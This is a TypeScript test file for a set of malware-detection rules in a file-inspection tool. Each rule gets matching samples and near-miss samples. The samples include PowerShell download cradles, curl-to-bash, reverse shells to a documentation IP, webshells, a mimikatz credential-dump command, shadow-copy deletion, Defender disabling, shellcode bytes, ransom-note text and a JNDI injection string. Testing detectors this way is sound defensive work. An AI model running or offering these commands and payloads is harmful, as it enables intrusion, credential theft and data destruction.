import assert from 'node:assert/strict';
import { readdirSync, readFileSync } from 'node:fs';
import { describe, test } from 'node:test';
import { OUR_RULES } from './binding.ts';
import { yara } from './eye.ts';
import type { RuleSource } from './rule.ts';
import { engineOf, latin, show } from './yara.testkit.ts';

const OURS: readonly RuleSource[] = readdirSync(OUR_RULES)
  .sort()
  .map((name) => ({ name, text: readFileSync(new URL(name, OUR_RULES), 'utf8') }));

/** Joined here and nowhere else: no file of this repository holds what the rules look for. */
const hex = (bytes: string): string => Buffer.from(bytes.replaceAll(' ', ''), 'hex').toString('latin1');
const at128 = (begins: string): string => `${begins.padEnd(128, '\0')}DICM`;
const wide = (value: string): string => Buffer.from(value, 'utf16le').toString('latin1');
const OLE = hex('D0CF11E0A1B11AE1');
const LNK = hex('4C0000000114020000000000C000000000000046');
const BASE64 = 'QUJD'.repeat(12);
const MZ = 'MZ\x90\0';

/** Of each rule: what it finds, and what comes near and is none. */
const CASES: Readonly<Record<string, readonly [found: readonly string[], near: readonly string[]]>> = {
  powershell_encoded: [
    [`Power`.concat(`Shell.exe -NoP -enc ${BASE64}`), wide('power'.concat(`shell -EncodedCommand ${BASE64}`))],
    [`powershell -encoding utf8 file`, `shell -enc ${BASE64}`],
  ],
  powershell_download: [
    ['power'.concat("shell (New-Object Net.WebClient).DownloadString('x')")],
    ['the powershell manual tells how to download a file', 'DownloadString('],
  ],
  powershell_cradle: [
    ['I'.concat('EX (New-Object Net.WebClient)')],
    ['New-Object Net.WebClient', 'index (new object)'],
  ],
  powershell_hidden: [
    ['power'.concat('shell -ep bypass -w hidden')],
    ['powershell -ep bypass', 'powershell -w hidden', '-ep bypass -w hidden'],
  ],
  mshta_remote: [['ms'.concat('hta http://192.0.2.1/a.hta')], ['mshta local.hta', 'see http://example.org']],
  regsvr32_scriptlet: [['regsvr'.concat('32 /s /u /i:http://x scrobj', '.dll')], ['regsvr32 msxml3.dll', 'scrobj.dll']],
  certutil_fetch: [['cert'.concat('util -urlcache -f http://x')], ['certutil -dump a.cer', '-urlcache']],
  bitsadmin_transfer: [['bits'.concat('admin /transfer a http://x')], ['bitsadmin /list', '/transfer']],
  rundll32_script: [['run'.concat('dll32 javascript:"x"')], ['rundll32 printui.dll', 'javascript:void']],
  wmic_process_create: [['wm'.concat('ic process call create calc')], ['wmic process list', 'process call create']],
  scheduled_task: [['sch'.concat('tasks /create /tr wscript')], ['schtasks /query', 'schtasks /create /tr backup']],
  registry_run_key: [
    ['reg'.concat(' add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v a')],
    ['reg query HKCU\\CurrentVersion\\Run', 'reg add HKCU\\Software\\Viewer'],
  ],
  script_download: [
    ['MSXML2'.concat('.XMLHTTP ADODB.Stream SaveToFile')],
    ['MSXML2.XMLHTTP', 'ADODB.Stream SaveToFile'],
  ],
  shell_pipe: [['cur'.concat('l -fsSL http://x/a | bash')], ['curl -fsSL http://x/a > b', 'echo a | bash']],
  php_webshell: [['<?php ev'.concat('al($_POST["a"]); ?>')], ['<?php echo $_POST["a"]; ?>']],
  php_packed: [['ev'.concat('al(base64_decode("eA=="))')], ['base64_decode("eA==")']],
  jsp_webshell: [
    ['Runtime.get'.concat('Runtime().exec(request.getParameter("c"))')],
    ['request.getParameter("c")', 'getRuntime().exec("a")'],
  ],
  aspx_webshell: [['<%ev'.concat('al(Request.Item["a"])%>')], ['<%= Request.Item["a"] %>']],
  reverse_shell_bash: [['bash -i >& /dev'.concat('/tcp/192.0.2.1/4444 0>&1')], ['/dev/tcp/', 'bash -i']],
  reverse_shell_netcat: [
    ['n'.concat('c -e /bin/sh 192.0.2.1 4444'), 'mkfifo'.concat(' /tmp/f; cat /tmp/f | sh | nc 192.0.2.1 1')],
    ['nc -l 104', 'mkfifo /tmp/pipe'],
  ],
  reverse_shell_script: [
    ['import socket; s=socket.'.concat('socket(); os.dup2(s.fileno(),0)'), 'fsockopen('.concat('"x"); /bin/sh -i')],
    ['s=socket.socket()', 'fsockopen("x")', '/bin/sh -i'],
  ],
  reverse_shell_powershell: [
    ['New-Object System.Net.Sockets.TCP'.concat('Client("x"); $c.GetStream(); Out-String')],
    ['Net.Sockets.TCPClient GetStream()', 'GetStream() Out-String'],
  ],
  python_hidden_code: [['ex'.concat('ec(base64.b64decode("eA=="))')], ['base64.b64decode("eA==")']],
  pedicom: [[at128(MZ)], [at128('\0\0'), MZ.padEnd(200, '\0')]],
  elfdicom: [[at128(hex('7F454C46'))], [at128('ELF'), hex('7F454C46').padEnd(200, '\0')]],
  script_dicom: [[at128('#!/bin/sh\n')], [at128('# note'), '#!/bin/sh']],
  upx_windows: [[`${MZ}.....UPX0....UPX1`], ['UPX0 UPX1', `${MZ} UPX0`]],
  upx_linux: [[`${hex('7F454C46')}....UPX!`], ['UPX!', hex('7F454C46').padEnd(99, '\0')]],
  process_injection: [
    [`${MZ} VirtualAllocEx WriteProcessMemory CreateRemoteThread`],
    ['VirtualAllocEx WriteProcessMemory CreateRemoteThread', `${MZ} VirtualAllocEx WriteProcessMemory`],
  ],
  credential_theft: [['seku'.concat('rlsa::logonpasswords')], ['logonpasswords']],
  shellcode_windows: [
    [hex('FC E8 82 00 00 00 60 89 E5 31 C0 64 8B'), hex('FC 48 83 E4 F0 E8 C0 00 00 00 41 51 41 50 52 51')],
    [hex('FC E8 82 00 00 00 61 89 E5 31 C0 64 8B'), hex('00 00 00 41 51 41 50 52 51')],
  ],
  shellcode_linux: [
    [hex('31 C0 50 68 2F 2F 73 68 68 2F 62 69 6E 89 E3'), hex('48 BB').concat('/bin/sh\0')],
    ['/bin/sh\0', hex('31 C0 50 68 2F 2F 73 68')],
  ],
  beacon: [
    ['beacon.x64'.concat('.dll'), 'could not spawn %s'.concat(' Started service %s on %s')],
    ['could not spawn %s', 'beacon'],
  ],
  meterpreter: [['metsrv.x64'.concat('.dll')], ['metsrv']],
  ransom_note: [
    [
      'All your files have been'.concat(' encrypted. Install Tor Browser'),
      'Vos fichiers ont été chiffrés, payez en bit'.concat('coin'),
    ],
    ['Your files have been encrypted at rest', 'the decryption key is kept safe', 'vos fichiers ont été reçus'],
  ],
  backup_destruction: [['vss'.concat('admin delete shadows /all')], ['vssadmin list shadows']],
  defence_off: [['Set-MpPref'.concat('erence -DisableRealtimeMonitoring 1')], ['Get-MpPreference']],
  miner: [['strat'.concat('um+tcp://pool:3333')], ['stratum 2, tcp://']],
  office_macro: [
    [`${OLE} AutoOpen ... WScript.Shell`, `${OLE} Document_Open ${wide('powershell')}`],
    ['AutoOpen WScript.Shell', `${OLE} AutoOpen`, `${OLE} WScript.Shell`],
  ],
  macro_source: [['Sub AutoOpen()'.concat('\nCreateObject("WScript.Shell")')], ['Sub AutoOpen()', 'WScript.Shell']],
  rtf_self_updating: [
    ['{\\rtf1 {\\object\\objupdate {\\*\\objdata 01}}'],
    ['\\objupdate \\objdata', '{\\rtf1 \\objdata 01'],
  ],
  shortcut_command: [[`${LNK}....${wide('powershell')}`], [`${LNK}....viewer.exe`, wide('powershell')]],
  html_smuggling: [
    ['atob'.concat('(x); new Blob([b]); a.href = URL.createObjectURL(c); a.download = "x"')],
    ['new Blob([b]); URL.createObjectURL(c)', 'atob(x)'],
  ],
  hidden_script: [['ev'.concat('al(atob("eA=="))')], ['atob("eA==")', 'evaluate(atob("x"))']],
  jndi_lookup: [
    ['${jn'.concat('di:ldap://x/a}'), '${$'.concat('{lower:j}ndi:x}')],
    ['jndi:ldap', '{jndi:'],
  ],
};

describe('our rules', () => {
  test('[INSPECT-360] each has its words in both languages, a severity, and its cases', async () => {
    const { set } = await engineOf({ leadglass: OURS, site: [] });
    assert.deepEqual(set.rules.map(({ name }) => name).sort(), Object.keys(CASES).sort());
    const told = OURS.flatMap(({ text }) => text.split(/^rule /m).slice(1));
    for (const rule of told) {
      for (const word of ['severity', 'description_fr', 'description'])
        assert.match(rule, new RegExp(`^ {4}${word} = "`, 'm'));
    }
  });

  test('[INSPECT-361] the gate can judge them all, at every fourth byte', async () => {
    const { set } = await engineOf({ leadglass: OURS, site: [] });
    assert.equal(set.hasHeavy, false);
    assert.equal(set.gate.step, 4);
  });

  test('[INSPECT-362] each finds what it is for, wherever it stands, and not what only comes near', async () => {
    const maker = yara(await engineOf({ leadglass: OURS, site: [] }));
    for (const [name, [found, near]] of Object.entries(CASES)) {
      const code = `yara.leadglass.${name}`;
      for (const content of found)
        assert.ok(show(maker, { bytes: latin(content), pieces: 13 }).codes.includes(code), `${name}: found`);
      for (const content of near)
        assert.ok(!show(maker, { bytes: latin(content) }).codes.includes(code), `${name}: near ${content}`);
    }
  });
});
